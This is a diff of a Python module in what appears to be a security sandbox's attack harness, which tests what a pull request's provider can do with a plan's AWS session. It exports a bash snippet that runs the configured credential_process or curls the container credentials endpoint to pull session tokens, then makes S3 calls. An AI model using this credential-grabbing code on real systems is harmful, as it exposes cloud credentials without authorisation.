@@ -1,4 +1,4 @@
-"""Calls of S3 that a pull request's provider makes with the plan's own AWS session."""
+"""The AWS session of a plan as a pull request's provider reads it, and calls of S3 with it."""
 
 import re
 from collections.abc import Mapping
@@ -6,16 +6,19 @@ from collections.abc import Mapping
 from sandbox.attack.provider import printed
 from sandbox.attack.target import Target
 
-__all__ = ["called", "state_bucket"]
+__all__ = ["SESSION", "called", "state_bucket"]
 
-_SCRIPT = """
+SESSION = """
 if [ -n "$AWS_CONFIG_FILE" ]; then
   session=$(sh -c "$(sed -n 's/^credential_process *= *//p' "$AWS_CONFIG_FILE")")
 else
   session=$(curl -sS "$AWS_CONTAINER_CREDENTIALS_FULL_URI")
 fi
-field() {{ echo "$session" | tr ',{{}}' '\\n' | sed -n "s/^ *\\"$1\\": *\\"\\(.*\\)\\".*/\\1/p"; }}
+field() { echo "$session" | tr ',{}' '\\n' | sed -n "s/^ *\\"$1\\": *\\"\\(.*\\)\\".*/\\1/p"; }
 token=$(field SessionToken)
+"""
+"""Lines of bash that define `field NAME`, which prints a field of the session, and `$token`."""
+_SCRIPT = """
 # The repository of this pull request, as owner/name.
 own=$(echo "${{PWD#*/repos/}}" | cut -d/ -f1-2)
 call() {{
@@ -28,7 +31,9 @@ call() {{
 
 def called(target: Target, name: str, calls: Mapping[str, str]) -> dict[str, int]:
     """The HTTP status of each call, by its label. A call is the arguments of curl; `$own` is the pull request's repository."""
-    script = _SCRIPT.format(calls="\n".join(f"call {label} {arguments}" for label, arguments in calls.items()))
+    script = SESSION + _SCRIPT.format(
+        calls="\n".join(f"call {label} {arguments}" for label, arguments in calls.items())
+    )
     said = printed(target, name, f"bash <<'BASH'\n{script.strip()}\nBASH")
     found = {label: int(status) for label, status in re.findall(r"^(\S+) (\d+)$", said, re.MULTILINE)}
     if found.keys() != calls.keys():
